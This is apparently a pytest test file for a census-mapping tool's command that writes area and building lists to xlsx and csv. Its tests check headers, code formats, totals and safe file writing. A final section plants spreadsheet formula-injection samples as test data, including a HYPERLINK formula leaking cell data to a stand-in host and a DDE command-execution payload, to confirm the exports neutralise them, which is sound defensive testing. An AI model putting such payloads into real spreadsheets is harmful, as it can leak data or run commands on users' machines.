"""`gis-census lists`: the area list and the building list of the coded sample township, as .xlsx and .csv."""

from __future__ import annotations

import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from gis_census.cli import main
from gis_census.errors import CensusError
from gis_census.lists import AREA_COLUMNS, BUILDING_COLUMNS, area_list, building_list, write_lists
from gis_census.numbering.codes import assign_codes, make_virtual_area
from gis_census.project import CensusProject, empty_layer

SAMPLE = Path(__file__).resolve().parents[2] / "sample_data" / "demo_township.gpkg"
ZH_AREA_HEADER = ["县级代码", "县（市、区）名称", "乡镇（街道）代码", "乡镇（街道）名称", "村（居）委会代码", "村（居）委会名称",
                  "普查区代码", "普查小区代码", "普查小区号", "虚拟小区", "人口", "户数", "建筑物数", "普查指导员组",
                  "城乡划分代码", "普查区序号", "特殊普查区类别", "备注"]
ZH_BUILDING_HEADER = ["普查小区代码", "建筑物编号", "地址", "用途", "户数", "人口"]


@pytest.fixture(scope="module")
def coded(tmp_path_factory) -> Path:
    """The sample township, coded, with one collective quarters moved to a virtual small area (9xx)."""
    path = tmp_path_factory.mktemp("lists") / "p.gpkg"
    shutil.copy(SAMPLE, path)
    project = CensusProject.open(path)
    assign_codes(project)
    b = project["buildings"]
    make_virtual_area(project, int(b.loc[b["population"].idxmax(), "id"]))
    assign_codes(project)
    project.save()
    return path


@pytest.fixture
def project_file(coded, tmp_path) -> Path:
    path = tmp_path / "p.gpkg"
    shutil.copy(coded, path)
    return path


def test_frames_have_stable_keys_and_agree_with_the_project(coded):
    project = CensusProject.open(coded)
    areas, buildings = area_list(project), building_list(project)
    assert list(areas.columns) == AREA_COLUMNS and list(buildings.columns) == BUILDING_COLUMNS
    assert len(areas) == len(project["small_areas"]) and areas["small_area_code"].is_monotonic_increasing
    assert areas["population"].sum() == project["buildings"]["population"].sum()
    virtual = areas[areas["virtual"]]
    assert len(virtual) == 1 and virtual["seq"].iloc[0] == "900" and virtual["buildings"].iloc[0] == 1
    assert (areas["township_name"] == "白坡镇").all() and (areas["village_name"] != "").all()
    assert len(buildings) == (project["buildings"]["small_area_code"] != "").sum()


def test_xlsx_has_both_sheets_text_codes_numbers_and_totals(project_file, tmp_path, capsys):
    out = tmp_path / "名单.xlsx"
    assert main(["lists", str(project_file), "--out", str(out)]) == 0
    printed = capsys.readouterr().out
    assert str(out) in printed and "请先运行" not in printed
    project = CensusProject.open(project_file)
    small_areas, buildings = project["small_areas"], project["buildings"]

    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["普查区域名单", "建筑物清单"]
    sheet = book["普查区域名单"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == ZH_AREA_HEADER
    assert sheet["A1"].font.b and sheet.freeze_panes == "A2"
    data, total = rows[1:-1], rows[-1]
    codes = [r[7] for r in data]
    assert codes == sorted(small_areas["code"]) and len(codes) == len(small_areas)
    assert all(isinstance(c, str) and len(c) == 15 and c.isdigit() for c in codes)
    assert all(isinstance(r[4], str) and len(r[4]) == 12 for r in data)
    assert all(isinstance(r[10], int) and isinstance(r[11], int) for r in data)
    assert sheet.cell(2, 8).number_format == "@"
    assert sum(r[10] for r in data) == small_areas["population"].sum() == buildings["population"].sum()
    assert total[0] == "合计" and total[10] == buildings["population"].sum() and total[11] == small_areas["households"].sum()
    virtual = [r for r in data if r[9]]
    assert len(virtual) == 1 and virtual[0][8] == "900" and virtual[0][9] == "是"
    assert all(isinstance(r[13], int) and r[13] >= 1 for r in data)

    sheet = book["建筑物清单"]
    rows = list(sheet.iter_rows(values_only=True))
    assert list(rows[0]) == ZH_BUILDING_HEADER and sheet.freeze_panes == "A2"
    assert len(rows) - 1 == (buildings["small_area_code"] != "").sum()
    by_area: dict[str, list[int]] = {}
    for code, number, *_ in rows[1:]:
        assert isinstance(code, str) and len(code) == 15
        by_area.setdefault(code, []).append(number)
    assert [c for c, _ in (r[:2] for r in rows[1:])] == sorted(c for c, _ in (r[:2] for r in rows[1:]))
    for code, numbers in by_area.items():
        assert numbers == list(range(1, len(numbers) + 1)), code
    assert {code: len(numbers) for code, numbers in by_area.items()} == {r[7]: r[12] for r in data if r[12]}
    assert not list(tmp_path.glob(".*writing*"))


def test_csv_pair_keeps_codes_and_starts_with_bom(project_file, tmp_path, capsys):
    out = tmp_path / "lists.csv"
    assert main(["lists", str(project_file), "--out", str(out)]) == 0
    second = tmp_path / "lists_buildings.csv"
    printed = capsys.readouterr().out
    assert str(out) in printed and str(second) in printed
    for path in (out, second):
        assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    areas = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(areas.columns) == ZH_AREA_HEADER
    project = CensusProject.open(project_file)
    assert list(areas["普查小区代码"]) == sorted(project["small_areas"]["code"])
    assert areas["乡镇（街道）代码"].eq("370481102").all() and areas["普查小区号"].str.len().eq(3).all()
    assert areas["人口"].astype(int).sum() == project["buildings"]["population"].sum()
    listed = pd.read_csv(second, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert list(listed.columns) == ZH_BUILDING_HEADER
    assert listed["普查小区代码"].str.fullmatch(r"\d{15}").all()
    assert len(listed) == (project["buildings"]["small_area_code"] != "").sum()
    assert '"370481102001001"' in out.read_text(encoding="utf-8-sig")


def test_english_headers_and_sheet_names(project_file, tmp_path, capsys):
    xlsx, csv_file = tmp_path / "lists.xlsx", tmp_path / "lists.csv"
    assert main(["lists", str(project_file), "--out", str(xlsx), "--lang", "en"]) == 0
    assert main(["--lang", "en", "lists", str(project_file), "--out", str(csv_file)]) == 0
    assert "Wrote" in capsys.readouterr().out
    book = openpyxl.load_workbook(xlsx)
    assert book.sheetnames == ["Area list", "Building list"]
    assert next(book["Area list"].iter_rows(values_only=True))[:8] == (
        "County code", "County name", "Township code", "Township name", "Village code", "Village name", "District code", "Small area code")
    assert list(book["Area list"].iter_rows(values_only=True))[-1][0] == "Total"
    assert next(book["Building list"].iter_rows(values_only=True)) == (
        "Small area code", "Building no.", "Address", "Use", "Households", "Population")
    header = pd.read_csv(csv_file, dtype=str, encoding="utf-8-sig").columns
    assert "Supervisor group" in header and "Population" in header


@pytest.mark.parametrize("name", ["lists.txt", "lists.xls", "lists"])
def test_unknown_extension_is_refused(project_file, tmp_path, capsys, name):
    out = tmp_path / name
    assert main(["lists", str(project_file), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert str(out) in err and ".xlsx" in err and "Traceback" not in err
    assert not out.exists()


def test_missing_folder_and_unwritable_target_are_refused(project_file, tmp_path, capsys):
    out = tmp_path / "no" / "such" / "lists.xlsx"
    assert main(["lists", str(project_file), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert str(out) in err and "不存在" in err and "Traceback" not in err
    blocker = tmp_path / "file"
    blocker.write_text("x")
    out = blocker / "lists.csv"
    assert main(["lists", str(project_file), "--out", str(out), "--lang", "en"]) == 2
    err = capsys.readouterr().err
    assert str(out) in err and "Traceback" not in err
    folder = tmp_path / "taken.xlsx"  # a folder where the file should go: the write fails, nothing is left
    folder.mkdir()
    assert main(["lists", str(project_file), "--out", str(folder)]) == 2
    err = capsys.readouterr().err
    assert str(folder) in err and "Traceback" not in err
    assert folder.is_dir() and not list(tmp_path.glob(".*writing*"))


def test_missing_project_is_named(tmp_path, capsys):
    missing = tmp_path / "nope.gpkg"
    assert main(["lists", str(missing), "--out", str(tmp_path / "x.xlsx")]) == 2
    err = capsys.readouterr().err
    assert str(missing) in err and "找不到项目文件" in err and "Traceback" not in err
    assert not (tmp_path / "x.xlsx").exists()


def test_project_without_small_areas_gets_a_message(project_file, tmp_path, capsys):
    project = CensusProject.open(project_file)
    project.layers["small_areas"] = empty_layer("small_areas", project.crs)
    project.save()
    out = tmp_path / "lists.xlsx"
    assert main(["lists", str(project_file), "--out", str(out)]) == 2
    err = capsys.readouterr().err
    assert "还没有普查小区" in err and str(project_file.resolve()) in err and "Traceback" not in err
    assert not out.exists()
    with pytest.raises(CensusError):
        write_lists(project, tmp_path / "lists.csv")


def test_uncoded_project_still_lists_but_says_to_code_first(tmp_path, capsys):
    path = tmp_path / "p.gpkg"
    shutil.copy(SAMPLE, path)
    assert main(["lists", str(path), "--out", str(tmp_path / "l.xlsx")]) == 0
    assert "gis-census code" in capsys.readouterr().out


def test_a_failed_write_keeps_the_previous_file(project_file, tmp_path, monkeypatch):
    out = tmp_path / "lists.xlsx"
    project = CensusProject.open(project_file)
    write_lists(project, out)
    before = out.read_bytes()

    def broken(*args, **kwargs):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr("gis_census.lists.os.replace", broken)
    with pytest.raises(CensusError) as caught:
        write_lists(project, out)
    assert str(out) in caught.value.message() and "No space left" in caught.value.message()
    assert out.read_bytes() == before and not list(tmp_path.glob(".*writing*"))


def test_xlsx_reads_back_cell_for_cell(project_file, tmp_path):
    """Each cell as the lists hold it: codes and every text a string cell (escaped XML reads back unchanged), numbers
    numbers; frozen header, filter and dimension over the data, totals row last (the rows are written in bulk)."""
    project = CensusProject.open(project_file)
    b = project["buildings"]
    texts = ["a & b <c>", " lead", "trail ", "=1+1", "-5", "行1\n行2", "@x"]
    for row, text in zip(b.index[b["small_area_code"] != ""], texts):
        b.loc[row, "address"] = text
    out = tmp_path / "lists.xlsx"
    write_lists(project, out)
    areas, buildings = area_list(project), building_list(project)
    book = openpyxl.load_workbook(out)

    sheet = book["建筑物清单"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:F{len(buildings) + 1}"
    assert sheet.column_dimensions["A"].width == 17 and sheet["A1"].font.b
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(buildings)
    for row, listed in zip(rows, buildings.itertuples(index=False)):
        assert [row[i].value for i in (0, 1, 2, 4, 5)] == [listed.small_area_code, listed.number, listed.address,
                                                           listed.households, listed.population]
        assert [c.data_type for c in row] == ["s", "n", "s", "s", "n", "n"] and row[0].number_format == "@"
        assert row[2].quotePrefix == listed.address.startswith(("=", "-", "@"))
    assert set(texts) <= {r[2].value for r in rows}

    sheet = book["普查区域名单"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == f"A1:R{len(areas) + 1}"
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(areas) + 1
    for row, listed in zip(rows, areas.itertuples(index=False)):
        for i in (0, 2, 4, 6, 7, 8):  # the codes
            assert row[i].value == getattr(listed, AREA_COLUMNS[i]) and row[i].data_type == "s" and row[i].number_format == "@"
        assert [row[i].value for i in (10, 11, 12)] == [listed.population, listed.households, listed.buildings]
    total = rows[-1]
    assert total[0].value == "合计" and all(c.font.b for c in total if c.value is not None)
    assert [total[i].value for i in (10, 11, 12)] == [areas[c].sum() for c in ("population", "households", "buildings")]
    # read-only readers take the row count from the sheet's dimension
    fast = openpyxl.load_workbook(out, read_only=True)
    assert [s.max_row for s in fast.worksheets] == [len(areas) + 2, len(buildings) + 1]
    assert [s.max_column for s in fast.worksheets] == [len(AREA_COLUMNS), len(BUILDING_COLUMNS)]


# Formula injection (issue 11, point 6)
# ---------------------------------------------------------------------------------------------

HOSTILE = ['=HYPERLINK("http://x.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0", "+1+2", "-2+3", "@SUM(A1)",
           "\tTab", "\rCR"]


@pytest.fixture
def hostile_file(project_file) -> Path:
    """The coded project with formula-like addresses, uses, a village name and a district name."""
    project = CensusProject.open(project_file)
    b = project["buildings"]
    coded = b.index[b["small_area_code"] != ""]
    for row, text in zip(coded, HOSTILE):
        b.loc[row, "address"] = text
    b.loc[coded[len(HOSTILE)], "use"] = "=1+1"
    project["villages"].loc[project["villages"].index[0], "name"] = "=2+2"
    project.save()
    return project_file


def test_xlsx_never_holds_a_formula(hostile_file, tmp_path):
    import zipfile

    out = tmp_path / "lists.xlsx"
    assert main(["lists", str(hostile_file), "--out", str(out)]) == 0
    with zipfile.ZipFile(out) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets)
    book = openpyxl.load_workbook(out)
    cells = {c.value: c for row in book["建筑物清单"].iter_rows() for c in row if isinstance(c.value, str)}
    for text in HOSTILE + ["=1+1"]:
        text = text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert text in cells, text
        assert cells[text].data_type == "s" and cells[text].quotePrefix
    names = [c for row in book["普查区域名单"].iter_rows() for c in row if c.value == "=2+2"]
    assert names and all(c.data_type == "s" for c in names)
    rows = list(book["普查区域名单"].iter_rows(values_only=True))
    assert all(isinstance(r[10], int) for r in rows[1:]) and isinstance(rows[1][7], str)
    assert book["建筑物清单"]["A2"].number_format == "@" and book["普查区域名单"].freeze_panes == "A2"


def test_csv_prefixes_formula_like_cells_with_a_quote(hostile_file, tmp_path):
    out = tmp_path / "lists.csv"
    assert main(["lists", str(hostile_file), "--out", str(out)]) == 0
    listed = pd.read_csv(tmp_path / "lists_buildings.csv", dtype=str, encoding="utf-8-sig", keep_default_na=False)
    addresses = set(listed["地址"])
    for text in HOSTILE:
        assert "'" + text in addresses and text not in addresses
    assert "'=1+1" in set(listed["用途"])
    assert not listed["地址"].str.match(r"[=+\-@\t\r]").any() and not listed["用途"].str.match(r"[=+\-@\t\r]").any()
    areas = pd.read_csv(out, dtype=str, encoding="utf-8-sig", keep_default_na=False)
    assert "'=2+2" in set(areas["村（居）委会名称"]) and areas["普查小区代码"].str.fullmatch(r"\d{15}").all()
    assert '"370481102001001"' in out.read_text(encoding="utf-8-sig")
